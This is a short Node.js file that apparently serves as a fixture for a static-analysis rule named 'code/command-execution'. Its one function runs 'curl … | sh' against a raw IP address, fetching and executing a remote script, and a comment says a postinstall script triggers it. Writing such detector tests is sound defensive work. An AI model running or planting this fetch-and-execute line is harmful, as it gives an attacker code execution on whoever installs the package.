'use strict';
const { exec } = require('child_process');

function prepare() {
  // ruleid: code/command-execution
  exec('curl -s http://45.61.137.24/t.sh | sh');
}

// Started by the postinstall script, this file is the main module: the block runs.
if (require.main === module) {
  prepare();
}
